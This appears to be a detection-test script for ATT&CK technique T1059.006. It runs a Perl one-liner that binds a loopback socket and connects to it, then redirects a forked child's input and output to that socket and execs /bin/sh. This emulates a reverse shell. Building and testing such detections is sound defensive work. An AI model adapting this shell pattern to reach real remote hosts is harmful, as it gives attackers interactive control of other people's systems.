#!/bin/sh
# case: T1059.006-perl-socket-shell
# technique: Reverse shell of perl
# source: cdk-team/CDK reverse-shell
# needs: perl
# expect: exec net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need perl
perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);bind(S,sockaddr_in(0,INADDR_LOOPBACK));listen(S,1);$p=(sockaddr_in(getsockname(S)))[0];
socket(C,PF_INET,SOCK_STREAM,0);connect(C,sockaddr_in($p,INADDR_LOOPBACK));accept(A,S);syswrite A,"id\nexit\n";
if(!($k=fork)){open(STDIN,"<&C");open(STDOUT,">&C");open(STDERR,">&C");exec "/bin/sh"}waitpid $k,0'; true
exit 0
